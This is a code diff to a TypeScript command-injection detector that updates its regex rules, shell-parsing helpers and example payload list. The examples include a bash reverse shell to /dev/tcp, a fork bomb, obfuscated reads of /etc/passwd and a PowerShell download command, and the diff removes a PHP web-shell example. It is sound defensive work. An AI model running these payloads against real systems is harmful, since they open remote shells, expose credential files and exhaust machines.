@@ -1,6 +1,8 @@
 import { ambiguousCommands, commands } from './commands.ts'
 import type { PatternRule, PayloadGrammar, PayloadHit } from './grammar.ts'
 import { firstMatch } from './grammar.ts'
+import { isProse } from './prose.ts'
+import { hasGlobbedPath, splicesVariables, withoutSplices } from './shell-splice.ts'
 
 const kind = 'command-injection'
 
@@ -9,88 +11,99 @@ const rules: readonly PatternRule[] = [
   ['function-import', 0.98, /\(\s?\)\s?\{\s?[:_]\s?;?/],
   ['field-separator', 0.97, /\$\{?ifs\b/],
   [
+    'system-file',
+    0.9,
+    /(?:^|[\s;|&`])(?:cat|more|less|head|tail|type|nl|tac|od|strings|grep|vi|cp|mv|rm)\s+(?:-\S+\s+)?\S{0,40}\/(?:etc|proc|var|root|home|tmp)\b/,
+  ],
+  [
+    'shell-arithmetic',
+    0.93,
+    /\$\(\(\s?(?:\d{1,20}\s?[*+-]|\d{1,20}\s?\)\)|\$\()|\$\[\s?\d{1,20}\s?[*+-]\s?\d{1,20}\s?\]/,
+  ],
+  [
+    'reverse-shell',
+    0.97,
+    /\/dev\/(?:tcp|udp)\/|\bnc\s+(?:-\S+\s+)+|\bbash\s+-[ic]\b|\bsh\s+-[ic]\b|powershell(?:\.exe)?\s+-|\d>\s?\$\w{1,16}\/(?:tcp|udp)/,
+  ],
+  [
+    'windows-loop',
+    0.95,
+    /\bfor\s+(?:\/[dlrf]\s+)?(?:"[^"]{0,80}"\s+|'[^']{0,80}'\s+|[^\s%]{1,64}\s+)?%{1,2}[\w~]{1,16}\s+in\s*\(/,
+  ],
+  [
+    'windows-condition',
+    0.93,
+    /\bif\s+(?:\/i\s+)?(?:not\s+)?(?:exist\s+\S|defined\s+\w|errorlevel\s+\d|cmdextversion\s+\d|"[^"\s]{0,40}"\s?==\s?"|%\w{1,40}%\s?==|\S{1,40}\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S|\(%?\w{1,40}\)\s?==\s?\()/,
+  ],
+  [
+    'powershell',
+    0.95,
+    /\b(?:invoke-(?:webrequest|expression|command|item|restmethod|wmimethod)|start-process|new-object\s+(?:system|net)\.|get-wmiobject|set-executionpolicy|frombase64string|downloadstring\(|add-type\s+-)|\biex\s?\(|\biwr\s+(?:-|https?:)|\biwmi\s+-|-enc(?:odedcommand)?\s+[a-z\d+/=]{16}/,
+  ],
+  ['windows-shell', 0.93, /\bcmd(?:\.exe)?\s?\/[ck]\b|%(?:comspec|systemroot|windir)%|\bset\s\/a\s/],
+]
+
+/** The same of what reads less surely: among sentences it is only a sign. */
+const likely: readonly PatternRule[] = [
+  [
     'shell-path',
     0.95,
     /(?:^|[\s;|&`'"(=<>$@])\/?(?:usr\/(?:local\/)?)?s?bin\/(?:[a-z][\w-]*(?!\.[a-z])(?![\w-])|[?*\w]*[?*])/,
   ],
   [
-    'system-file',
-    0.9,
-    /(?:^|[\s;|&`])(?:cat|more|less|head|tail|type|nl|tac|od|strings|grep|vi|cp|mv|rm)\s+(?:-\S+\s+)?\S{0,40}\/(?:etc|proc|var|root|home|tmp)\b/,
+    'brace-expansion',
+    0.85,
+    /\{,[^\s{}:]{1,40}\}|\{[^\s{}:"]{1,40},\}|\{[\w/?]{1,16},-[^\s{}]{1,32}\}|[a-z]\{[a-z]{1,8},[a-z-]{1,8}\}[a-z]|\{[a-z]{1,8},-[a-z]{1,8}\}[a-z]|\{,[a-z][\w-]{0,30}[,}]/,
   ],
-  ['shell-arithmetic', 0.93, /\$\(\(\s?\d{1,20}\s?[*+-]/],
-  [
-    'code-call',
-    0.93,
-    /(?:^|[^\w.])@?(?:system|passthru|shell_exec|popen|proc_open|pcntl_exec|exec|proc_nice|gzdecode|gzuncompress|bzdecompress|scandir|opendir|highlight_file|show_source|parse_ini_file|unserialize|phpinfo|assert|create_function|call_user_func(?:_array)?|file_get_contents|file_put_contents|base64_decode|str_rot13|gzinflate|preg_replace|var_dump|print_r|fopen|fsockopen|readfile|move_uploaded_file|ini_set|die|md5)\(\s?["'$\w@)[]/,
-  ],
-  ['php-tag', 0.95, /<\?(?:php|=|\s)/],
-  [
-    'php-variable',
-    0.9,
-    /\$_(?:get|post|request|cookie|server|files|session|env)\b|\$globals\b|\$\{\s?@?[a-z_]+\(/,
-  ],
-  [
-    'import-call',
-    0.93,
-    /__import__\s?\(|(?:^|[^\w.])(?:os|subprocess|commands|pty|child_process)\.(?:system|popen|exec[a-z]*|spawn[a-z]*|call|run|check_output)\b|require\s?\(\s?["'](?:child_process|fs|net|os|vm)["']|process\.(?:mainmodule|binding\()/,
-  ],
-  [
-    'runtime-call',
-    0.93,
-    /runtime\.getruntime|processbuilder|getruntime\(\)|java\.lang\.(?:runtime|process|system|class)/,
-  ],
-  [
-    'reverse-shell',
-    0.97,
-    /\/dev\/(?:tcp|udp)\/|\bnc\s+(?:-\S+\s+)+|\bbash\s+-[ic]\b|\bsh\s+-[ic]\b|powershell(?:\.exe)?\s+-/,
-  ],
-  ['windows-loop', 0.95, /\bfor\s+(?:\/[dlrf]\s+(?:\S{1,64}\s+)?)?%{1,2}\w+\s+in\s*\(/],
-  [
-    'windows-condition',
-    0.93,
-    /\bif\s+(?:\/i\s+)?(?:not\s+)?(?:exist\s+\S|defined\s+\w|errorlevel\s+\d|cmdextversion\s+\d|"[^"\s]{0,40}"\s?==\s?")/,
-  ],
-  [
-    'powershell',
-    0.95,
-    /\b(?:invoke-(?:webrequest|expression|command|item|restmethod|wmimethod)|start-process|new-object\s+(?:system|net)\.|get-wmiobject)\b|\biex\s?\(|\biwr\s+(?:-|https?:)|\biwmi\s+-/,
-  ],
-  ['brace-expansion', 0.85, /\{,[a-z][\w-]{0,30}[,}]|\{\w{1,16},-\w{1,16}\}/],
-  ['process-substitution', 0.8, /(?:^|\s)[<>]\([a-z]{2,}[^)]{0,60}\)/],
+  ['process-substitution', 0.8, /(?:^|[\s=])[<>]\([a-z]{2,}[^)]{0,60}\)/],
   ['function-import', 0.9, /^\s?\(\s?\)\s?\{/],
-  ['shell-variable', 0.85, /\$\{?(?:shell|bash|hosttype|ostype)\b/],
+  ['function-definition', 0.9, /\(\s?\)\s?\{[^}&|]{0,48}(?:[^|&]\|[^|]|&\s?[;\w}])[^}]{0,48}\}\s?;?/],
   [
-    'indirect-call',
-    0.88,
-    /\(\s?(?:string\s?\)\s?)?["']?[a-z_.()]{3,40}["']?\s?\)\s?\(\s?["'][^"']{1,80}["']\s?\)\s?;?\s?$/,
+    'shell-variable',
+    0.85,
+    /\$\{?(?:shell|bash|hosttype|ostype|oldpwd|pwd|path|home|user|hostname|random|euid|uid|ps[1-4])\b(?!\s?\})|\$\{?(?:shell|bash|hosttype|ostype)\b|\$\{?#?\d?\w{1,16}(?::\d|%%|##|\/\/)/,
   ],
-  ['variable-call', 0.8, /(?:^|[^\w)])@?\$\$?[a-z_]\w{0,30}(?:\[\w{0,20}\])?\((?:\d|["'])/],
+  ['interpreter-option', 0.85, /(?:^|[\s;|&`])(?:python[\d.]{0,5}|perl|ruby|php|node|lua)\s+-[cer]\b/],
+  ['alias', 0.8, /(?:^|[\s;|&\n])(?:un)?alias\s+['"]?\w{1,32}['"]?=\S/],
+  ['here-string', 0.85, /[a-z]\s?<<<\s?\S/],
   [
-    'evaluated-code',
-    0.9,
-    /\bnew function\s?\(|\bthis\.constructor\b|\bprocess\.(?:spawn|exec|mainmodule)|__js_function/,
+    'database-shell',
+    0.85,
+    /[;'"]\s{0,4}(?:\\n)?\s{0,4}\.\\?['"]?\s?(?:shell|sh|system|databases|dbinfo|tables|schema|dump|load|import|output|once|read|open|backup|restore|archive|excel|log|clone|save)\b/,
   ],
-  ['windows-shell', 0.93, /\bcmd(?:\.exe)?\s?\/[ck]\b|%(?:comspec|systemroot|windir)%|\bset\s\/a\s/],
-  ['interpreter-option', 0.85, /(?:^|[\s;|&`])(?:python[23]?|perl|ruby|php|node)\s+-[cer]\b/],
+  ['history', 0.65, /^(?:!-?\d{1,3}){1,4}$|^!![\w:^$*-]{0,16}$/],
+  ['directory-stack', 0.6, /^~[+-]\d{0,2}$|^~\d{1,2}$/],
 ]
 
-const separators = /[;|&\n\r`]|\$\(|\{(?=[a-z])/g
-
-/** A word as the shell would see it: quotes, backslashes, carets and empty expansions do not separate. */
-function unquote(text: string): string {
-  return text.replace(/['"\\^]|\$[@*]|\$\{[a-z@*]?\}/g, '')
-}
+const separators = /[;|&\n\r`]|\$\(|\{(?=[a-z])|[<>]\(/g
+/** Programs that run the one named behind them. */
+const runner =
+  /^(?:time|sudo|nohup|env(?:\s+\w{1,32}=\S{0,64})?|nice(?:\s+-n\s+\d{1,3})?|command|builtin|busybox|setsid|stdbuf\s+-\S{1,8}|timeout\s+[\d.]{1,8}[smhd]?|xargs|doas|unbuffer)\s+(?=\S)/
 
 /** A command line at `text`: the program is known, and what follows could be its arguments. */
 function commandAt(text: string, tight = false): number {
-  const line = unquote(text.slice(0, 256)).trimStart().replace(/^\++/, '')
+  const cut = text.slice(0, 256)
+  const line = withoutSplices(cut)
+    .trimStart()
+    .replace(/^[+(!@]{1,4}/, '')
+    .trimStart()
+  const run = runner.exec(line)
+  if (run !== null) {
+    const behind = commandAt(line.slice(run[0].length))
+    if (behind > 0) return behind
+  }
   const end = line.search(/[\s;|&`<>(){}$,+]/)
   const path = end === -1 ? line : line.slice(0, end)
-  const name = path.slice(path.lastIndexOf('/') + 1).replace(/\)+$/, '')
+  const name = path
+    .slice(path.lastIndexOf('/') + 1)
+    .replace(/\)+$/, '')
+    .replace(/(?<=[a-z])\d[\d.]{0,5}$/, match => (match.length > 1 ? '' : match))
   if (!commands.has(name)) return 0
   const rest = end === -1 ? '' : line.slice(end)
+  const spliced =
+    line.length < cut.trimStart().length && /^\W?[a-z]{1,16}(?:['"\\^]|\$|``)/.test(cut.trimStart())
   if (!ambiguousCommands.has(name)) return rest === '' || /^[\s;|&`<>()$+]/.test(rest) ? 0.9 : 0
+  if (spliced) return 0.85
   const argument = rest.trimStart().replace(/^,/, '')
   if (argument === '' || /^[;|&`<>)]/.test(argument)) return tight ? 0.8 : 0
   if (
@@ -105,9 +118,8 @@ function commandAt(text: string, tight = false): number {
   return name === 'echo' ? (/^[\w$-]+\s*(?:$|[;|&>`])/.test(argument) ? 0.75 : 0) : 0
 }
 
-function inspect(value: string, lower: string): PayloadHit | undefined {
-  const strong = firstMatch(kind, rules, lower)
-  if (strong !== undefined) return strong
+/** Command lines behind the separators of a shell. */
+function chained(lower: string): number {
   let best = 0
   let tried = 0
   for (const separator of lower.matchAll(separators)) {
@@ -130,24 +142,64 @@ function inspect(value: string, lower: string): PayloadHit | undefined {
     const named = separator[0] === '`' && separator.index > 0 && lower[separator.index - 1] === ' '
     const tight = separator.index < 4 || (lower[at] !== ' ' && !named)
     const confidence = named
-      ? Math.min(0.6, commandAt(lower.slice(at, at + 256)))
+      ? Math.min(0.45, commandAt(lower.slice(at, at + 256)))
       : commandAt(lower.slice(at, at + 256), tight)
     if (confidence > best) best = confidence
   }
-  if (best > 0) return { kind, rule: 'chained-command', confidence: best }
-  const first = commandAt(lower)
+  return best
+}
+
+/** A value that begins as a command line does. */
+function leading(lower: string): number {
+  const found = commandAt(lower)
+  if (found >= 0.88 && /\s(?:-{1,2}\w|\/\w|\d{1,3}\.\d{1,3}\.\d{1,3}\.|[a-z]:|https?:)/.test(lower))
+    return 0.8
+  const trimmed = lower.trim()
+  const word = /^[a-z0-9_.+-]{1,32}/.exec(trimmed)?.[0] ?? ''
+  const raw = trimmed.slice(0, 48)
+  // Quotes and empty expansions within the word hide it from everybody but a shell.
   if (
-    first >= 0.88 &&
-    /\s/.test(lower) &&
-    /\s(?:-\w|\/\w|\d{1,3}\.\d{1,3}\.\d{1,3}\.|[a-z]:|https?:)/.test(lower)
+    word !== '' &&
+    found > 0 &&
+    /^[a-z0-9"'\\$^@!?_`*-]{2,48}/.test(raw) &&
+    /[a-z0-9](?:["'\\^]{1,2}|\$[@*!?$_-]|``|\$[a-z](?=[^a-z]))[a-z0-9.\s"]/.test(raw) &&
+    !/^[a-z]{1,12}['"]s?\s/.test(raw)
   )
-    return { kind, rule: 'command-line', confidence: 0.8 }
-  const spliced = unquote(lower)
-  if (spliced !== lower && value.length < 512) {
-    const again = firstMatch(kind, rules.slice(0, 4), spliced)
-    if (again !== undefined) return { ...again, confidence: again.confidence - 0.05 }
+    return 0.8
+  const statement = /^([a-z]{1,16});$/.exec(trimmed)
+  if (statement !== null && commands.has(statement[1]!)) return 0.6
+  if (found === 0) return 0
+  const unusual = !ambiguousCommands.has(word)
+  if (unusual && found >= 0.88) return /\s/.test(trimmed) ? 0.55 : 0.4
+  return runner.test(trimmed) ? 0.55 : 0.25
+}
+
+function inspect(value: string, lower: string): PayloadHit | undefined {
+  const strong = firstMatch(kind, rules, lower)
+  if (strong !== undefined) return strong
+  const prose = isProse(lower)
+  const some = firstMatch(kind, likely, lower)
+  if (some !== undefined && !prose) return some
+  if (splicesVariables(lower)) return { kind, rule: 'variable-splice', confidence: prose ? 0.4 : 0.88 }
+  if (hasGlobbedPath(lower)) return { kind, rule: 'globbed-path', confidence: prose ? 0.4 : 0.88 }
+  const best = chained(lower)
+  if (best >= 0.5) return { kind, rule: 'chained-command', confidence: best }
+  const first = prose ? 0 : leading(lower)
+  if (first > 0) return { kind, rule: 'command-line', confidence: first }
+  if (value.length < 512) {
+    const spliced = withoutSplices(lower)
+    if (spliced !== lower) {
+      const again = firstMatch(kind, rules, spliced)
+      if (again !== undefined) return { ...again, confidence: again.confidence - 0.05 }
+      if (
+        /(?:^|[\s;|&+])\S{0,40}\/etc\/(?:passwd|shadow|hosts|group)/.test(spliced) &&
+        !lower.includes('/etc/')
+      )
+        return { kind, rule: 'spliced-path', confidence: 0.9 }
+    }
   }
-  return undefined
+  if (some !== undefined) return { ...some, confidence: 0.4 }
+  return best > 0 ? { kind, rule: 'chained-command', confidence: best } : undefined
 }
 
 export const commandInjection: PayloadGrammar = {
@@ -165,7 +217,6 @@ export const commandInjection: PayloadGrammar = {
     '/dev/',
     ' -',
     '(',
-    '<?',
     '%comspec',
     '%windir',
     'cmd',
@@ -174,15 +225,28 @@ export const commandInjection: PayloadGrammar = {
     'powershell',
     '+/',
     ' /',
-    'java.lang',
-    'http',
     'invoke-',
     '{,',
+    ',}',
+    ',-',
     'start-process',
     '%',
     'if ',
-    'constructor',
-    '__js',
+    'bin/',
+    'alias',
+    '~',
+    '!',
+    '^',
+    '\\',
+    "''",
+    '""',
+    'time ',
+    'nohup',
+    'sudo ',
+    'exec',
+    'set-exec',
+    'downloadstring',
+    'frombase64',
   ],
   inspect,
   examples: {
@@ -199,9 +263,7 @@ export const commandInjection: PayloadGrammar = {
       ';getent$IFS$9hosts',
       '| /bin/sleep 31 ;',
       'x & ping -n 31 127.0.0.1 &',
-      '<?php system($_GET["c"]); ?>',
       '/bin/bash -i >& /dev/tcp/1.2.3.4/9 0>&1',
-      "__import__('os').system('id')",
       '|dir c:\\',
       '{cat,/etc/hosts}',
       'cmd /c whoami',
@@ -209,9 +271,15 @@ export const commandInjection: PayloadGrammar = {
       'if exist c:\\a',
       'Invoke-WebRequest http://example.com/x.ps1',
       '{,ifconfig}',
-      "(system)('uname');",
       '<(cmd)',
-      'new Function ("x")',
+      'a=/etc&&b=/passwd&&c=cat&&$c $a$b',
+      '/b?n/c?t /e?c/pas[s]wd',
+      'cu$@rl example.com',
+      ';c$!at /et$!c/pas$!swd',
+      'f(){ f|f& };f',
+      '{id,}',
+      'time ifconfig',
+      'id;',
     ],
     misses: [
       'Tom & Jerry',
